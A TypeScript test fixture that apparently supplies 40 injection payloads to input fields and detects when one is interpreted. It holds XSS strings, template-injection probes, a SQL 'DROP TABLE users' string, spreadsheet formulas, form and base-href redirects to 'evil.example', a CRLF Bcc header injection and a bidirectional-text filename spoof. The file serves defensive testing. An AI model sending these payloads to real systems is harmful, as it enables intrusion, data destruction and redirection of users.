// 40 texts that some program would interpret: markup, handlers, addresses, templates, SQL, formulas, directions, headers (P35).

/** Where the text ends up as markup, an element with this attribute appears. */
export const injectedAttribute = "data-injected";
/** What a template or a formula makes of 7919*7907. */
export const computed = /62[,.]?615[,.]?533/;
export const evilHost = "evil.example";

/** Each at most 64 characters, and without further use if it is cut off. */
const texts: readonly string[] = [
  "<b data-injected>bold</b>",
  "<script data-injected>injected()</script>",
  "<img data-injected src=x onerror=injected()>",
  "<svg data-injected onload=injected()>",
  '"><i data-injected>',
  "'><i data-injected>",
  "</title><i data-injected>",
  "</textarea><i data-injected>",
  "</script><i data-injected>",
  "--><i data-injected><!--",
  "]]><i data-injected>",
  "<iframe data-injected srcdoc=x>",
  "<style data-injected>*{display:none}</style>",
  "<form data-injected action=//evil.example>",
  "<base data-injected href=//evil.example>",
  "<meta data-injected http-equiv=refresh content=0>",
  "&lt;i data-injected&gt;x",
  "&#60;i data-injected&#62;x",
  "%3Ci data-injected%3Ex",
  String.raw`\u003ci data-injected\u003ex`,
  "<math><mi data-injected xlink:href=javascript:injected()>",
  '" onfocus=injected() autofocus data-injected x="',
  "' onmouseover=injected() data-injected x='",
  "javascript:injected()",
  "data:text/html,<i data-injected>",
  "//evil.example/a",
  "https://evil.example/a?b=c",
  "[a](https://evil.example)",
  "{{7919*7907}}",
  "${7919*7907}",
  "<%= 7919*7907 %> #{7919*7907} {0} %s %n",
  "'; DROP TABLE users;--",
  '=HYPERLINK("https://evil.example","x")',
  "+7919*7907",
  "@SUM(7919*7907)",
  "-7919*7907|cmd",
  "a\u202egnp.exe\u202c \u2066b\u2069 \u200bc\u2060d\ufeff",
  "x\r\nBcc: evil@evil.example",
  "__proto__ null undefined",
  "long word",
];

export const payloadCount = texts.length;

/** The payload of that number for a field of `max` characters. The last one is a single word of the full length. */
export function payloadOf(number: number, max: number): string {
  const text = texts[number % payloadCount] ?? "";
  return text === "long word" ? "W".repeat(max) : text.slice(0, max);
}

/** Characters that change the direction of a text or are invisible: removed wherever people type (P35). */
export const directions = /[\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069\ufeff]/u;
